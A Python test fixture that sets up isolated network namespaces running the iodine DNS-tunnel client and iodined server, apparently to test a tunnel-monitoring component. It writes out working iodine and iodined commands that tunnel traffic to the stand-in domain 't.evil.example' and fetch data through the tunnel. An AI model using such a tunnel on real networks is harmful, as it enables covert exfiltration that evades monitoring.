"""Two network namespaces: a device with iodine, and the point with iodined behind it."""

import contextlib
import json
import os
import secrets
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

SUPPORT = Path(__file__).parent
DEVICE_ADDRESS, POINT_ADDRESS = "10.91.0.2", "10.91.0.1"
INSIDE_ADDRESS = "10.92.0.1"
DOMAIN = "t.evil.example"
PASSWORD = "hidden"
_FETCH = """
import socket, sys
with socket.create_connection((sys.argv[1], 8000), timeout=10) as connection:
    connection.settimeout(10)
    octets = 0
    while part := connection.recv(4096):
        octets += len(part)
print(octets)
"""


def why_not() -> str | None:
    """Return why there can be no such rig here, None where there can be one."""
    for program in ("iodine", "iodined", "ip"):
        if shutil.which(program) is None:
            return f"not installed: {program}"
    name = _name()
    made = subprocess.run(["ip", "netns", "add", name], capture_output=True, check=False)
    if made.returncode:
        return "network namespaces are not permitted here"
    tun = subprocess.run(
        ["ip", "-n", name, "tuntap", "add", "dev", "tun0", "mode", "tun"],
        capture_output=True,
        check=False,
    )
    subprocess.run(["ip", "netns", "del", name], check=False)
    return "tun devices are not permitted here" if tun.returncode else None


def _name() -> str:
    return f"sg-{os.getpid()}-{secrets.token_hex(2)}"


class Rig:
    """The namespaces and what runs in them; *mode* is that of `tunnel_point`."""

    def __init__(self, mode: str, *, type_: str) -> None:
        self.lines: list[str] = []
        self.began_s = 0.0
        self._mode = mode
        self._type = type_
        self._device, self._point = _name(), _name()
        self._running: list[subprocess.Popen[str]] = []

    def start(self) -> None:
        """Put the point and iodined in place, and let iodine begin to log in."""
        for name in (self._device, self._point):
            _ip("netns", "add", name)
            _ip("-n", name, "link", "set", "lo", "up")
        # The names of a pair are of the whole machine until it is moved.
        pair = [f"sg{secrets.token_hex(4)}" for _ in range(2)]
        _ip("link", "add", pair[0], "type", "veth", "peer", "name", pair[1])
        ends = zip(pair, (self._device, self._point), strict=True)
        for (end, name), address in zip(ends, (DEVICE_ADDRESS, POINT_ADDRESS), strict=True):
            _ip("link", "set", end, "netns", name)
            _ip("-n", name, "address", "add", f"{address}/24", "dev", end)
            _ip("-n", name, "link", "set", end, "up")
        self._run(
            self._point,
            *("iodined", "-f", "-c", "-P", PASSWORD, "-l", "127.0.0.1", "-p", "5300"),
            *(f"{INSIDE_ADDRESS}/24", DOMAIN),
        )
        point = self._run(
            self._point,
            *(sys.executable, str(SUPPORT / "tunnel_point.py"), POINT_ADDRESS),
            *("127.0.0.1:5300", self._mode),
        )
        threading.Thread(target=self._read, args=(point,), daemon=True).start()
        self.wait(lambda: bool(self.lines), 30)
        self.began_s = time.monotonic()
        self._run(
            self._device,
            *("iodine", "-f", "-r", "-P", PASSWORD, "-T", self._type, POINT_ADDRESS, DOMAIN),
        )

    def events(self) -> list[dict[str, Any]]:
        """Return what the point has recorded."""
        return [json.loads(line) for line in tuple(self.lines) if line.startswith("{")]

    def fetched(self) -> int:
        """Return how many octets come to the device through the tunnel; 0 without one."""
        done = subprocess.run(
            ["ip", "netns", "exec", self._device, sys.executable, "-c", _FETCH, INSIDE_ADDRESS],
            capture_output=True,
            text=True,
            check=False,
        )
        return int(done.stdout) if done.returncode == 0 else 0

    def wait(self, condition: Callable[[], bool], within_s: float) -> None:
        """Wait for *condition*; fail when it does not come true."""
        deadline = time.monotonic() + within_s
        while not condition():
            assert time.monotonic() < deadline, self.lines
            time.sleep(0.05)

    def stop(self) -> None:
        """End what was started and take the namespaces away."""
        for process in reversed(self._running):
            process.terminate()
        for process in self._running:
            try:
                process.wait(5)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
            if process.stdout is not None:
                process.stdout.close()
        for name in (self._device, self._point):
            with contextlib.suppress(subprocess.CalledProcessError):
                _ip("netns", "del", name)

    def _run(self, namespace: str, *command: str) -> subprocess.Popen[str]:
        is_point = command[0] == sys.executable
        process = subprocess.Popen(
            ["ip", "netns", "exec", namespace, *command],
            stdout=subprocess.PIPE if is_point else subprocess.DEVNULL,
            stderr=None if is_point else subprocess.DEVNULL,
            stdin=subprocess.DEVNULL,
            text=True,
            env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)},
        )
        self._running.append(process)
        return process

    def _read(self, point: subprocess.Popen[str]) -> None:
        assert point.stdout is not None
        with contextlib.suppress(ValueError):  # it is closed when the rig is taken down
            for line in point.stdout:
                self.lines.append(line)


@contextlib.contextmanager
def rig(mode: str, *, type_: str) -> Iterator[Rig]:
    """Give a running rig, whose iodine asks for *type_*, and take it away afterwards."""
    built = Rig(mode, type_=type_)
    try:
        built.start()
        yield built
    finally:
        built.stop()


def _ip(*words: str) -> None:
    subprocess.run(["ip", *words], check=True, capture_output=True)
